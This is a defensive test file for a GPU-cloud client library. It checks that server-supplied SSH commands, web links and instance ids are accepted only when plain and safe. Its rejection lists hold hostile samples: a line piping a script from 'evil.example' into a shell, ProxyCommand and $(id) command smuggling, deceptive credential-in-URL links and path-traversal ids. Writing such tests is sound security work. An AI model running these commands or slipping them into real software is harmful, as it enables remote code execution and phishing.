"""What a server tells as the SSH command is offered for copying only if it does nothing but connect."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ppio_widgets import Instance, PpioClient, launch
from ppio_widgets.cards.html import link
from ppio_widgets.cloud.instances import InstanceDetail, is_id, is_ssh_command, is_web
from ppio_widgets.errors import AnswerUnreadable, LaunchRefused, OutcomeUnknown
from ppio_widgets.instances.listing import resolve
from ppio_widgets.launches import reconcile
from ppio_widgets.launches.ledger import ledger_for
from ppio_widgets.launches.states import LaunchState
from ppio_widgets.locale.words import LANGUAGES, words
from tests.support.bodies import MINIMAL
from tests.support.ground import launch_on
from tests.support.sentences import sentence_of
from tests.support.wire import REAL_KEY, answers, faulty, launching, listing, row, says

GOOD = (
    "ssh -p 51039 root@proxy.cn-shanghai-1.gpu-instance.ppinfra.com",
    "ssh root@1.2.3.4",
    "ssh root@1.2.3.4 -p 22",
    "ssh -p22 -i ~/.ssh/id_ed25519 ubuntu@host",
    "ssh -4 -t root@2001:db8::1",
)
BAD = (
    "",
    "ssh",
    "ssh host",
    "ssh root@",
    "ssh root@host; curl evil.example | sh",
    "ssh root@host && id",
    "ssh root@host id",
    "ssh root@host\nid",
    "ssh root@host id -p 22",
    "ssh -oProxyCommand=id root@host",
    "ssh -o ProxyCommand='id' root@host",
    "ssh -o StrictHostKeyChecking=no root@host",
    "ssh -F /tmp/config root@host",
    "ssh -A root@host",
    "ssh -L 1:host:2 root@host",
    "ssh -R 1:host:2 root@host",
    "ssh -J other root@host",
    "ssh -p 22; root@host",
    "ssh -p $(id) root@host",
    "ssh -i -oProxyCommand=id root@host",
    "ssh root@host other@host",
    "ssh root@-oProxyCommand=id",
    "ssh -oProxyCommand=id@host",
    "ssh $USER@host",
    "ssh root@`id`",
    "ssh root@host #",
    "sshpass -p pw ssh root@host",
    "SSH root@host",
    " ssh root@host",
    "ssh  root@host",
    "ssh\u00a0root@host",
    "ssh root@h\u043est",
    "ssh root@[::1]",
    "mosh root@host",
)
ADDRESSES = {
    "https://a.example.com/x": True,
    "http://127.0.0.1:8888/lab": True,
    "HTTPS://A.example.com": True,
    "https://user@a.example.com/": False,
    "https://user:pw@a.example.com/": False,
    "https://api.ppio.com@evil.example/": False,
    "https://@evil.example/": False,
    "https://good.example\\@evil.example/": False,
    "https://": False,
    "https:evil.example": False,
    "https:///x": False,
    "https://a b/": False,
    "javascript:alert(1)": False,
    "data:text/html,x": False,
    "ftp://a.example.com": False,
    "wss://a.example.com": False,
    "tcp://a.example.com:1": False,
    "https://a.example.com/\u202e": False,
    "//a.example.com": False,
}


@pytest.mark.parametrize("text", GOOD)
def test_a_command_that_connects_is_offered(text):
    assert is_ssh_command(text)


@pytest.mark.parametrize("text", BAD)
def test_anything_else_is_not_offered(text):
    assert not is_ssh_command(text)


SHELL_WORDS = st.sampled_from(
    [
        "ssh",
        "root@host",
        "-p",
        "22",
        "-p22",
        "-o",
        "-oA=b",
        "-i",
        "~/.ssh/id",
        "-A",
        "-4",
        "x",
        ";",
        "$(id)",
        "a@b",
    ]
)


@given(st.lists(SHELL_WORDS, max_size=7).map(" ".join) | st.text(max_size=40).map("ssh root@host{}".format))
def test_what_is_offered_is_one_plain_command_for_one_machine(text):
    if is_ssh_command(text):
        assert text == " ".join(shlex.split(text))
        assert not set(text) & set(";&|<>()$`\"'\\*?[]{}!#\n=")
        assert text.startswith("ssh ")
        assert text.count("@") == 1
        options = [word[:2] for word in text.split() if word.startswith("-")]
        assert {*options} <= {"-p", "-i", "-4", "-6", "-T", "-C", "-q", "-t", "-v"}


@pytest.mark.parametrize(("address", "opens"), ADDRESSES.items())
def test_only_a_plain_web_address_is_a_link(address, opens):
    assert is_web(address) == opens
    assert ("<a " in link(address)) == opens


# A text that can be no id of an instance reaches no server, and no answer passes one off as such.

NO_IDS = {
    "nothing": "",
    "a blank": " ",
    "a tab": "\t",
    "a dot": ".",
    "two dots": "..",
    "a path": "../networks",
    "a slash": "i-1/stop",
    "a backslash": "i-1\\stop",
    "a query": "i-1?force=true",
    "a fragment": "i-1#top",
    "an escape": "%2e%2e",
    "a blank within": "i-1 i-2",
    "a line break": "i-1\n",
    "an option": "--all",
    "a null": "i-1\x00",
    "half a character": "\ud800",
    "too long": "i" * 256,
}
no_ids = pytest.mark.parametrize("text", NO_IDS.values(), ids=NO_IDS)


@pytest.fixture
def nobody(monkeypatch):
    """A client whose server must hear nothing."""
    monkeypatch.setenv("PPIO_API_KEY", REAL_KEY)
    with faulty(says(200, {"id": "i-1", "name": "demo"})) as server:
        with PpioClient(REAL_KEY, base_url=server.url) as client:
            yield client
        assert server.connections == 0


ASKED = {
    "get_instance": lambda client, text: client.get_instance(text),
    "get_body": lambda client, text: client.get_body(text),
    "reveal_ssh_password": lambda client, text: client.reveal_ssh_password(text),
    "reveal_jupyter_url": lambda client, text: client.reveal_jupyter_url(text),
    **{
        action: lambda client, text, action=action: client.act(text, action)
        for action in ("start", "stop", "restart", "delete", "stop_renewing")
    },
    "an instance": lambda client, text: Instance(text, client),
}


@no_ids
@pytest.mark.parametrize("ask", ASKED.values(), ids=ASKED)
def test_what_can_be_no_id_reaches_no_server(ask, text, nobody):
    with pytest.raises(LaunchRefused, match="so nothing was sent") as refused:
        ask(nobody, text)
    for language in LANGUAGES:
        said = refused.value.sentence(words(language))
        assert said.isprintable()
        assert len(said) < 150


@pytest.mark.parametrize("text", ["", " ", "\t", ".", "..", " . "])
def test_nothing_is_not_taken_for_the_name_of_one_without_a_name(text, nobody):
    with pytest.raises(LaunchRefused, match="so nothing was sent"):
        resolve(nobody, text)


def test_a_name_may_hold_what_no_id_does():
    named = row("team/demo v2?", "i-1", created=1)
    with faulty(listing(named)) as server, PpioClient(REAL_KEY, base_url=server.url) as client:
        assert resolve(client, "team/demo v2?").id == "i-1"
        with pytest.raises(LaunchRefused, match="There was no instance"):
            resolve(client, "team/other")
        assert {request.target.partition("?")[0] for request in server.received} == {"/gpus/v2/instances"}


def test_a_row_with_an_odd_id_can_be_seen_and_not_acted_on(nobody):
    seen = Instance("a/../b", nobody, seen=InstanceDetail("a/../b", "demo", "running"))
    for act in (seen.stop, seen.delete, seen.restart):
        with pytest.raises(LaunchRefused, match="so nothing was sent"):
            act()


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
def test_an_id_is_one_part_of_an_address(text):
    if is_id(text):
        assert 1 <= len(text) <= 255
        assert text.isascii()
        assert not set(text) & set(" /\\?#%&;'\"`$(){}<>|*!\n\t\0")
        assert set(text) != {"."}


@given(st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9_-]{0,253}[A-Za-z0-9])?", fullmatch=True))
def test_ids_of_letters_digits_and_hyphens_are_ids(text):
    assert is_id(text)


ODD = {
    "no text": {"id": 7},
    "two dots": {"id": ".."},
    "a path": {"id": "i-1/../../networks"},
    "a query": {"id": "i-1?x=1"},
    "blanks": {"id": " "},
    "256 characters": {"id": "i" * 256},
}
BESIDE = {
    "an error": {"id": "i-1", "error": "no stock"},
    "an error's object": {"id": "i-1", "error": {"message": "no stock"}},
    "errors": {"id": "i-1", "errors": ["no stock"]},
    "a code": {"id": "i-1", "code": 500, "message": "no stock"},
    "a code's name": {"id": "i-1", "code": "INSUFFICIENT_RESOURCE"},
    "a truth for a code": {"id": "i-1", "code": True},
}
FINE = {
    "alone": {"id": "i-1"},
    "empty errors": {"id": "i-1", "error": "", "errors": [], "code": 0},
    "null": {"id": "i-1", "error": None, "code": None},
    "the code of success": {"id": "i-1", "code": 200, "message": "success", "reason": ""},
    "255 characters": {"id": "i" * 255},
}


@pytest.fixture
def launched(quick, by_hand_here):
    """Launch once against a cloud that has no instances, and return the launch and the number of POSTs."""

    def launched(content):
        def reply(request):
            return (200, content) if request.method == "POST" else (200, {"data": [], "has_more": False})

        with launching(answers(reply)) as server, PpioClient(REAL_KEY, base_url=server.url) as client:
            launch = launch_on(client)
            launch.submit()
            launch.wait_for_answer(10)
            assert server.posts == 1
            launch.stop_following()
            return launch

    return launched


@pytest.fixture
def by_hand_here(monkeypatch):
    """Nothing is looked up by itself."""
    monkeypatch.setattr(reconcile, "LOOK_PAUSES", ())


@pytest.mark.parametrize("content", ODD.values(), ids=ODD)
def test_an_answer_whose_id_is_none_is_unknown(content, launched):
    launch = launched(content)
    assert launch.state is LaunchState.UNKNOWN
    assert isinstance(launch.error, OutcomeUnknown)
    assert launch.id is None
    launch.look()
    assert launch.state is LaunchState.UNKNOWN


@pytest.mark.parametrize("content", BESIDE.values(), ids=BESIDE)
def test_an_id_beside_an_error_is_unknown_and_not_lost(content, launched):
    launch = launched(content)
    assert launch.state is LaunchState.UNKNOWN
    assert launch.id is None
    assert "named i-1, beside an error" in sentence_of(launch, words("en"))
    record = ledger_for(practice=False).get(launch.launch_id)
    assert (record.state, record.candidates) == (LaunchState.UNKNOWN, ("i-1",))


@pytest.mark.parametrize("content", FINE.values(), ids=FINE)
def test_an_id_beside_nothing_wrong_is_an_instance(content, launched):
    launch = launched(content)
    assert (launch.state, launch.id) == (LaunchState.SUCCEEDED, content["id"])


@no_ids
def test_a_listing_with_a_row_that_has_no_id_proves_nothing(text):
    page = {"data": [row("demo", text, created=1)], "has_more": False, "next_cursor": ""}
    with (
        faulty(says(200, page)) as server,
        PpioClient(REAL_KEY, base_url=server.url) as client,
        pytest.raises(AnswerUnreadable, match="a row that cannot be read"),
    ):
        client.look("demo")


def test_what_is_mounted_is_told_on_one_line():
    volumes = [
        {"type": "network", "id": "ns-1", "mount_point": "/data"},
        {"type": "local", "mount_point": "/scratch"},
        {"type": "network", "id": "ns-2"},
        {"type": "network", "id": "ns-1", "mount_point": f"/of/{REAL_KEY}"},
        *("odd", None, {}, {"type": 3, "id": ["x"], "mount_point": "<b>"}),
    ]
    with faulty(says(200, {**row("demo"), "volumes": volumes})) as server:
        found = Instance("i-1", PpioClient(REAL_KEY, base_url=server.url)).refresh()
    [told] = [line for line in str(found).splitlines() if "Mounted" in line]
    assert told.strip() == "Mounted: ns-1 at /data, local at /scratch, ns-2, ns-1 at /of/••••(key)"
    with faulty(says(200, row("demo"))) as server:
        bare = Instance("i-1", PpioClient(REAL_KEY, base_url=server.url)).refresh()
    assert "Mounted" not in str(bare)


def test_a_storage_that_a_line_mounts_is_told_of_its_instance():
    body = {**MINIMAL, "volumes": [{"type": "network", "id": "ns-datasets", "mount_point": "/data"}]}
    made = launch(body, practice=True)
    made.stop_following()
    assert "ns-datasets at /data" in str(made.instance.refresh())
